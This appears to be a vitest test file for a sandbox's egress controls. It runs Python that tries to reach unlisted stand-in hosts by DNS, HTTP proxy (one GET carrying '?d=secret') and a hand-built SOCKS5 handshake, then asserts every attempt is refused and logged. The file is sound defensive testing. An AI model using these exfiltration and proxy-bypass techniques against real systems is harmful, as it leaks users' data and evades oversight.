// Sends data to a host that no rule names: by name, by proxy, by SOCKS. Source: the plain exfiltration of every prompt injection.
import { AttackBox, expectDenied, expectRefused, forEachTier } from '../support/attack.ts';
import { expect } from 'vitest';

forEachTier('an unlisted host is refused at every entry, with a record each', async (tier) => {
  using box = new AttackBox(tier);
  const result = await box.python(`
attempt('name', lambda: socket.getaddrinfo('exfil.example.com', 443))
report('connect', connect_by_proxy('connect.example.com:443').split(b'\\r\\n')[0].decode())
report('plain', talk(port_in('http_proxy'), b'GET http://plain.example.com/?d=secret HTTP/1.1\\r\\nHost: plain.example.com\\r\\nConnection: close\\r\\n\\r\\n').split(b'\\r\\n')[0].decode())
with socket.create_connection(port_in('all_proxy'), 5) as link:
    link.sendall(b'\\5\\1\\0'); link.recv(2)
    name = b'socks.example.com'
    link.sendall(b'\\5\\1\\0\\3' + bytes([len(name)]) + name + struct.pack('>H', 443))
    report('socks', link.recv(64)[1])
`);
  expectRefused(result, ['name'], ['ENONAME']);
  expect(result.stdout).toMatch(/connect=HTTP\/1.1 403/);
  expect(result.stdout).toMatch(/plain=HTTP\/1.1 403/);
  expect(result.stdout, result.stderr).toContain('socks=2');
  for (const [host, entry] of [
    ['exfil.example.com', 'dns'],
    ['connect.example.com', 'http-proxy'],
    ['plain.example.com', 'http-proxy'],
    ['socks.example.com', 'socks'],
  ]) {
    expectDenied(box, { host, entry, rule: 'default.deny' });
  }
});
